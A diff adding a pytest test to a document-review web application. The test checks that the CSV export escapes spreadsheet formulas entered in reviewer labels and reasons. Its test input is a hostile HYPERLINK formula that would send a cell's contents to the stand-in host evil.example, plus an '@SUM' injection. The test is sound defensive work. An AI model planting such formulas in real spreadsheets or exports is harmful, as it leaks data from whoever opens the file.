@@ -364,3 +364,19 @@ def test_added_fact_between_blocks_takes_the_block_before(tmp_path) -> None:  # 
     assert fact is not None
     assert fact["location"]["block"] == doc.block_at(0).id
     assert (fact["id"], fact["value"], fact["span"]) == ("a7", 10.0, [start, start + 4])
+
+
+def test_the_web_export_never_carries_a_live_formula(review_db: ReviewDB) -> None:
+    # a reviewer's label or reason is untrusted text too (issue 15, item 1)
+    doc = review_db.doc_id("004_1ab22aee8a00dbb0.txt")
+    key, _, _ = failed_sum(review_db, doc)
+    client = review_db.client("binh")
+    hostile = '=HYPERLINK("http://evil.example/?d="&A2,"Xem")'
+    form = {**fact_form(client, doc, key), "label": hostile, "reason": "@SUM(1+1)",
+            "action": "correct"}
+    assert client.post(f"/doc/{doc}/fact/{key}", data=form,
+                       follow_redirects=False).status_code == 303
+    response = review_db.client("an").get(f"/export.csv?document={doc}")
+    row = next(r for r in csv.DictReader(io.StringIO(response.text)) if r["fact_key"] == key)
+    assert row["corrected_label"] == "'" + hostile
+    assert row["correction_reason"] == "'@SUM(1+1)"
